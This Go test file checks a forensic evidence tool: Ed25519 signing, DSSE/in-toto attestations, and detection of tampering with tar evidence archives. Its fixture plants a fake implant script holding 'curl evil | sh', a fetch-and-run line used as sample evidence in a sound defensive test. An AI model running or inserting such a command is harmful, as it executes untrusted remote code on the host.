package evidence

import (
	"archive/tar"
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	intoto "github.com/in-toto/attestation/go/v1"
	"github.com/secure-systems-lab/go-securesystemslib/dsse"
	"github.com/secure-systems-lab/go-securesystemslib/signerverifier"
	"go.uber.org/goleak"
	"google.golang.org/protobuf/encoding/protojson"

	"github.com/warren-dev/warren/auth"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

// RFC 8032 section 7.1, tests 1 and 2: the signer is plain Ed25519 (no pre-hash, no context).
func TestEd25519RFC8032Vectors(t *testing.T) {
	for _, v := range []struct{ secret, public, msg, sig string }{
		{"9d61b19deffd5a60ba844af492ec2cc44449c5697b326919703bac031cae7f60",
			"d75a980182b10ab7d54bfed3c964073a0ee172f3daa62325af021a68f707511a", "",
			"e5564300c360ac729086e2cc806e828a84877f1eb8e5d974d873e065224901555fb8821590a33bacc61e39701cf9b46bd25bf5f0595bbe24655141438e7a100b"},
		{"4ccd089b28ff96da9db6c346ec114e0f5b8a319f35aba624da8cf6ed4fb8a6fb",
			"3d4017c3e843895a92b70aa74d1b7ebc9c982ccf2ec4968cc0cd55f12af4660c", "72",
			"92a009a9f0d4cab8720e820b5f642540a2b27b5416503f8fb3762223ebdb69da085ac1e43e15996e458f3613d0f11d8c387b2eaeb4302aeeb00d291612bb0c00"},
	} {
		seed, _ := hex.DecodeString(v.secret)
		msg, _ := hex.DecodeString(v.msg)
		priv := ed25519.NewKeyFromSeed(seed)
		if got := hex.EncodeToString(priv.Public().(ed25519.PublicKey)); got != v.public {
			t.Fatalf("public key %s, want %s", got, v.public)
		}
		sv := ed25519SignerVerifier{priv: priv, pub: priv.Public().(ed25519.PublicKey)}
		sig, err := sv.Sign(context.Background(), msg)
		if err != nil || hex.EncodeToString(sig) != v.sig {
			t.Fatalf("signature %x (%v), want %s", sig, err, v.sig)
		}
		if err := sv.Verify(context.Background(), msg, sig); err != nil {
			t.Fatal(err)
		}
		sig[0] ^= 1
		if err := sv.Verify(context.Background(), msg, sig); err == nil {
			t.Fatal("a changed signature verified")
		}
	}
}

func newSigner(t *testing.T) *Signer {
	t.Helper()
	_, priv, _ := ed25519.GenerateKey(nil)
	s, err := NewSigner(priv)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// The signature covers DSSE's pre-authentication encoding exactly as the spec's example spells it
// (https://github.com/secure-systems-lab/dsse/blob/master/protocol.md): checked without the library.
func TestEnvelopeSignsThePAE(t *testing.T) {
	s := newSigner(t)
	es, _ := dsse.NewEnvelopeSigner(ed25519SignerVerifier{priv: s.key, pub: s.Public(), keyID: s.keyID})
	env, err := es.SignPayload(context.Background(), "http://example.com/HelloWorld", []byte("hello world"))
	if err != nil {
		t.Fatal(err)
	}
	sig, _ := base64.StdEncoding.DecodeString(env.Signatures[0].Sig)
	if !ed25519.Verify(s.Public(), []byte("DSSEv1 29 http://example.com/HelloWorld 11 hello world"), sig) {
		t.Fatal("the signature is not over the spec's PAE")
	}
	if env.Signatures[0].KeyID != s.KeyID() {
		t.Fatalf("keyid %q, want %q", env.Signatures[0].KeyID, s.KeyID())
	}
}

func writeTarget(t *testing.T, store Store, signer *Signer, dir string, files map[string]string) *Statement {
	t.Helper()
	ctx := context.Background()
	tw, err := BeginTarget(ctx, store, dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range sortedKeys(files) {
		body := files[name]
		if _, err := tw.Archive().WriteEntry(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg}, strings.NewReader(body)); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := tw.Archive().WriteEntry(&tar.Header{Name: "container/proc/1/exe", Typeflag: tar.TypeSymlink, Linkname: "/bin/sleep"}, nil); err != nil {
		t.Fatal(err)
	}
	parts := strings.SplitN(dir, "/", 3)
	ns, pod, c := parts[0], parts[1], parts[2]
	st, err := tw.Finish(ctx, signer, Predicate{Case: "ir-42", Examiner: "alice", AcquisitionID: "abc",
		Target:  Target{Cluster: "prod", Namespace: ns, Pod: pod, Container: c, PodUID: "uid-1", Image: "busybox"},
		Profile: "triage", Mode: "exec", Method: "collector", StartedOn: time.Now(), FinishedOn: time.Now()})
	if err != nil {
		t.Fatal(err)
	}
	return st
}

var planted = map[string]string{
	"container/etc/passwd":        "root:x:0:0:root:/root:/bin/sh\n",
	"container/proc/1/cmdline":    "sleep\x00infinity\x00",
	"kubernetes/pod.json":         `{"kind":"Pod"}`,
	"container/fs/tmp/implant.sh": "#!/bin/sh\ncurl evil | sh\n",
}

func TestWriteAndVerify(t *testing.T) {
	ctx := context.Background()
	store, _ := NewLocalStore(t.TempDir())
	signer := newSigner(t)
	keys, _ := NewKeys(signer.Public())
	st := writeTarget(t, store, signer, "payments/api-1/main", planted)

	if len(st.Subject) != 1+len(planted) || st.Subject[0].Name != ArchiveName {
		t.Fatalf("subjects: %+v", st.Subject)
	}
	for _, s := range st.Subject[1:] {
		if want := sha256.Sum256([]byte(planted[s.Name])); s.Digest["sha256"] != hex.EncodeToString(want[:]) {
			t.Errorf("subject %s: %s", s.Name, s.Digest["sha256"])
		}
	}
	raw, _ := os.ReadFile(filepath.Join(store.Root(), "payments/api-1/main", ArchiveName))
	if sum := sha256.Sum256(raw); st.Subject[0].Digest["sha256"] != hex.EncodeToString(sum[:]) || st.Predicate.Archive.Size != int64(len(raw)) {
		t.Fatal("the archive subject is not the sha256 of the file as written")
	}
	if _, err := os.Stat(filepath.Join(store.Root(), "payments/api-1/main", ArchiveName+PartialSuffix)); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("a finished target left a partial archive: %v", err)
	}
	rep, err := Verify(ctx, store, keys)
	if err != nil || len(rep.Failures) != 0 || len(rep.Targets) != 1 || !rep.Targets[0].OK() {
		t.Fatalf("Verify: %v %+v", err, rep)
	}

	// The same files, read by a plain tar reader, are what the subjects say.
	tr := tar.NewReader(bytes.NewReader(raw))
	n := 0
	for {
		hdr, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if hdr.Format == tar.FormatGNU {
			t.Fatalf("%s is a GNU header: the archive must be POSIX", hdr.Name)
		}
		if hdr.Typeflag == tar.TypeReg {
			b, _ := io.ReadAll(tr)
			if string(b) != planted[hdr.Name] {
				t.Fatalf("%s: %q", hdr.Name, b)
			}
			n++
		}
	}
	if n != len(planted) {
		t.Fatalf("%d files in the tar", n)
	}
}

// The envelope verifies with the reference libraries alone: go-securesystemslib's DSSE verifier with its own
// Ed25519 verifier loaded from signing.pub, and the in-toto attestation library's Statement validation.
func TestStatementVerifiesWithReferenceLibraries(t *testing.T) {
	dir := t.TempDir()
	if _, err := auth.GenerateKeyPair(filepath.Join(dir, "keys")); err != nil {
		t.Fatal(err)
	}
	signer, err := LoadSigner(filepath.Join(dir, "keys", auth.SigningKeyFile))
	if err != nil {
		t.Fatal(err)
	}
	store, _ := NewLocalStore(filepath.Join(dir, "out"))
	writeTarget(t, store, signer, "payments/api-1/main", planted)

	envJSON, _ := os.ReadFile(filepath.Join(store.Root(), "payments/api-1/main", StatementName))
	var env dsse.Envelope
	if err := json.Unmarshal(envJSON, &env); err != nil {
		t.Fatal(err)
	}
	pubPEM, _ := os.ReadFile(filepath.Join(dir, "keys", auth.PublicKeyFile))
	key, err := signerverifier.LoadKey(pubPEM)
	if err != nil {
		t.Fatal(err)
	}
	key.KeyID = signer.KeyID() // the envelope's keyid hint: warren's RFC 7638 thumbprint
	sv, err := signerverifier.NewED25519SignerVerifierFromSSLibKey(key)
	if err != nil {
		t.Fatal(err)
	}
	ev, _ := dsse.NewEnvelopeVerifier(sv)
	accepted, payload, err := ev.VerifyAndDecode(context.Background(), &env)
	if err != nil || len(accepted) != 1 || accepted[0].KeyID != signer.KeyID() {
		t.Fatalf("reference DSSE verification: %v %+v", err, accepted)
	}
	if env.PayloadType != "application/vnd.in-toto+json" {
		t.Fatalf("payloadType %q", env.PayloadType)
	}
	var st intoto.Statement
	if err := protojson.Unmarshal(payload, &st); err != nil {
		t.Fatal(err)
	}
	if err := st.Validate(); err != nil {
		t.Fatal(err)
	}
	if st.GetType() != intoto.StatementTypeUri || st.GetPredicateType() != "https://warren.dev/acquisition/v1" ||
		st.GetPredicate().GetFields()["case"].GetStringValue() != "ir-42" || len(st.GetSubject()) != 1+len(planted) {
		t.Fatalf("statement: %v", &st)
	}
	// warren keygen prints the same key id as the envelope's.
	if kid, _ := auth.KeyID(signer.Public()); kid != env.Signatures[0].KeyID {
		t.Fatalf("keyid %s, keygen's %s", env.Signatures[0].KeyID, kid)
	}
}

// Each way of breaking a target makes Verify fail with the name of what broke.
func TestVerifyNamesWhatBroke(t *testing.T) {
	ctx := context.Background()
	const dir = "payments/api-1/main"
	arch, stmt := dir+"/"+ArchiveName, dir+"/"+StatementName
	cases := []struct {
		name   string
		break_ func(t *testing.T, root string, signer *Signer)
		keys   func(signer *Signer) *Keys
		want   []Failure
	}{
		{"flipped byte in a file", func(t *testing.T, root string, _ *Signer) {
			flip(t, filepath.Join(root, arch), "curl evil")
		}, nil, []Failure{
			{arch, "sha256 "},
			{arch + ":container/fs/tmp/implant.sh", "sha256 "},
		}},
		{"archive removed", func(t *testing.T, root string, _ *Signer) {
			os.Remove(filepath.Join(root, arch))
		}, nil, []Failure{{arch, "missing (the statement lists it)"}}},
		{"statement removed", func(t *testing.T, root string, _ *Signer) {
			os.Remove(filepath.Join(root, stmt))
		}, nil, []Failure{{stmt, "missing"}}},
		{"file removed from the archive", func(t *testing.T, root string, _ *Signer) {
			rewriteTar(t, filepath.Join(root, arch), func(name string) bool { return name != "container/etc/passwd" })
		}, nil, []Failure{
			{arch, "sha256 "},
			{arch, "4608 bytes, the statement says 5632"},
			{arch + ":container/etc/passwd", "listed in the statement but not in the archive"},
		}},
		{"file added to the archive", func(t *testing.T, root string, _ *Signer) {
			rewriteTarAdd(t, filepath.Join(root, arch), "container/fs/tmp/innocent", "nothing here")
		}, nil, []Failure{
			{arch, "sha256 "},
			{arch, "6656 bytes, the statement says 5632"},
			{arch + ":container/fs/tmp/innocent", "in the archive but not in the statement"},
		}},
		{"statement changed", func(t *testing.T, root string, _ *Signer) {
			editPayload(t, filepath.Join(root, stmt), func(p []byte) []byte { return bytes.Replace(p, []byte("alice"), []byte("mallory"), 1) })
		}, nil, []Failure{{stmt, "the signature does not verify with key"}}},
		{"statement re-signed by another key", func(t *testing.T, root string, _ *Signer) {
			other := newSigner(t)
			editPayload(t, filepath.Join(root, stmt), nil)
			resign(t, filepath.Join(root, stmt), other)
		}, nil, []Failure{{stmt, "signed by key ["}}},
		{"wrong --key", func(t *testing.T, root string, _ *Signer) {}, func(*Signer) *Keys {
			k, _ := NewKeys(newSigner(t).Public())
			return k
		}, []Failure{{stmt, "signed by key ["}}},
		{"statement moved to another target", func(t *testing.T, root string, _ *Signer) {
			os.MkdirAll(filepath.Join(root, "payments/api-2/main"), 0o700)
			os.Rename(filepath.Join(root, stmt), filepath.Join(root, "payments/api-2/main", StatementName))
			os.Rename(filepath.Join(root, arch), filepath.Join(root, "payments/api-2/main", ArchiveName))
		}, nil, []Failure{{stmt, "missing"}, {"payments/api-2/main/" + StatementName, "the statement is about payments/api-1/main, not about the target of this directory"}}},
		{"interrupted", func(t *testing.T, root string, _ *Signer) {
			os.Rename(filepath.Join(root, arch), filepath.Join(root, arch+PartialSuffix))
			os.Remove(filepath.Join(root, stmt))
		}, nil, []Failure{{arch + PartialSuffix, "the acquisition of this target did not finish"}}},
		{"indexed target gone", func(t *testing.T, root string, _ *Signer) {
			os.RemoveAll(filepath.Join(root, "payments"))
		}, nil, []Failure{{stmt, "missing"}}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			store, _ := NewLocalStore(t.TempDir())
			signer := newSigner(t)
			writeTarget(t, store, signer, dir, planted)
			if err := WriteIndex(ctx, store, &Index{AcquisitionID: "abc", Cluster: "prod", Targets: []IndexTarget{
				{Namespace: "payments", Pod: "api-1", Container: "main", Dir: dir, Result: ResultAcquired}}}); err != nil {
				t.Fatal(err)
			}
			c.break_(t, store.Root(), signer)
			keys, _ := NewKeys(signer.Public())
			if c.keys != nil {
				keys = c.keys(signer)
			}
			rep, err := Verify(ctx, store, keys)
			if err != nil {
				t.Fatal(err)
			}
			if len(rep.Failures) != len(c.want) {
				t.Fatalf("failures %v, want %v", rep.Failures, c.want)
			}
			for i, w := range c.want {
				if got := rep.Failures[i]; got.Path != w.Path || !strings.HasPrefix(got.Reason, w.Reason) {
					t.Errorf("failure %d: %s, want %s: %s...", i, got, w.Path, w.Reason)
				}
			}
		})
	}
}

// flip changes one byte of the first occurrence of marker in file.
func flip(t *testing.T, file, marker string) {
	t.Helper()
	b, _ := os.ReadFile(file)
	i := bytes.Index(b, []byte(marker))
	if i < 0 {
		t.Fatalf("%q not in %s", marker, file)
	}
	b[i] ^= 0x20
	os.WriteFile(file, b, 0o600)
}

func rewriteTar(t *testing.T, file string, keep func(string) bool) {
	t.Helper()
	rewrite(t, file, keep, "", "")
}

func rewriteTarAdd(t *testing.T, file, name, body string) {
	t.Helper()
	rewrite(t, file, func(string) bool { return true }, name, body)
}

func rewrite(t *testing.T, file string, keep func(string) bool, addName, addBody string) {
	t.Helper()
	in, _ := os.ReadFile(file)
	var out bytes.Buffer
	tr, tw := tar.NewReader(bytes.NewReader(in)), tar.NewWriter(&out)
	for {
		hdr, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if !keep(hdr.Name) {
			continue
		}
		tw.WriteHeader(hdr)
		io.Copy(tw, tr)
	}
	if addName != "" {
		tw.WriteHeader(&tar.Header{Name: addName, Mode: 0o644, Size: int64(len(addBody)), Typeflag: tar.TypeReg})
		io.WriteString(tw, addBody)
	}
	tw.Close()
	os.WriteFile(file, out.Bytes(), 0o600)
}

// editPayload rewrites the envelope's payload with edit (nil: unchanged), keeping the old signature.
func editPayload(t *testing.T, file string, edit func([]byte) []byte) {
	t.Helper()
	b, _ := os.ReadFile(file)
	var env dsse.Envelope
	json.Unmarshal(b, &env)
	p, _ := env.DecodeB64Payload()
	if edit != nil {
		p = edit(p)
	}
	env.Payload = base64.StdEncoding.EncodeToString(p)
	b, _ = json.Marshal(env)
	os.WriteFile(file, b, 0o600)
}

func resign(t *testing.T, file string, s *Signer) {
	t.Helper()
	b, _ := os.ReadFile(file)
	var env dsse.Envelope
	json.Unmarshal(b, &env)
	p, _ := env.DecodeB64Payload()
	var st Statement
	json.Unmarshal(p, &st)
	out, err := s.SignStatement(context.Background(), &st)
	if err != nil {
		t.Fatal(err)
	}
	os.WriteFile(file, out, 0o600)
}

func TestArchiveRefusesBadEntries(t *testing.T) {
	for _, c := range []struct {
		name string
		hdr  tar.Header
		body string
		want string
	}{
		{"absolute", tar.Header{Name: "/etc/passwd", Size: 1}, "x", "invalid object name"},
		{"dot-dot", tar.Header{Name: "container/../../x", Size: 1}, "x", "invalid object name"},
		{"the archive's own name", tar.Header{Name: ArchiveName, Size: 1}, "x", "may not be named"},
		{"short body", tar.Header{Name: "a", Size: 5}, "abc", "3 bytes, the header says 5"},
		{"long body", tar.Header{Name: "a", Size: 2}, "abc", "more bytes than the 2 of its header"},
	} {
		t.Run(c.name, func(t *testing.T) {
			a := NewArchive(io.Discard)
			c.hdr.Typeflag = tar.TypeReg
			_, err := a.WriteEntry(&c.hdr, strings.NewReader(c.body))
			if err == nil || !errors.Is(err, ErrEntry) || !strings.Contains(err.Error(), c.want) {
				t.Fatalf("WriteEntry = %v, want %q", err, c.want)
			}
		})
	}
	a := NewArchive(io.Discard)
	a.WriteEntry(&tar.Header{Name: "a", Size: 1, Typeflag: tar.TypeReg}, strings.NewReader("x"))
	if _, err := a.WriteEntry(&tar.Header{Name: "a", Size: 1, Typeflag: tar.TypeReg}, strings.NewReader("x")); err == nil || !strings.Contains(err.Error(), "in the archive already") {
		t.Fatalf("duplicate: %v", err)
	}
}

func TestTargetDirRefusesNonNames(t *testing.T) {
	for _, bad := range [][3]string{{"..", "p", "c"}, {"ns", "a/b", "c"}, {"ns", "p", "C"}, {"", "p", "c"}, {"ns", ".", "c"}} {
		if _, err := TargetDir(bad[0], bad[1], bad[2]); err == nil {
			t.Errorf("TargetDir%v accepted", bad)
		}
	}
	if d, err := TargetDir("payments", "api-7f9c.x", "main"); err != nil || d != "payments/api-7f9c.x/main" {
		t.Fatal(d, err)
	}
}

// An abandoned target is only partial; a rerun replaces it, and the old archive is gone before the statement.
func TestAbandonAndRedo(t *testing.T) {
	ctx := context.Background()
	store, _ := NewLocalStore(t.TempDir())
	signer := newSigner(t)
	keys, _ := NewKeys(signer.Public())
	const dir = "ns/p/c"
	tw, _ := BeginTarget(ctx, store, dir)
	tw.Archive().WriteEntry(&tar.Header{Name: "a", Size: 1, Typeflag: tar.TypeReg}, strings.NewReader("x"))
	tw.Abandon()
	if _, err := store.Stat(ctx, dir+"/"+ArchiveName); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("an abandoned target has an evidence.tar: %v", err)
	}
	if _, err := store.Stat(ctx, dir+"/"+ArchiveName+PartialSuffix); err != nil {
		t.Fatal(err)
	}
	if Verified(ctx, store, dir, keys) {
		t.Fatal("a partial target verified")
	}
	writeTarget(t, store, signer, dir, planted)
	if !Verified(ctx, store, dir, keys) {
		t.Fatal("the redone target does not verify")
	}
}
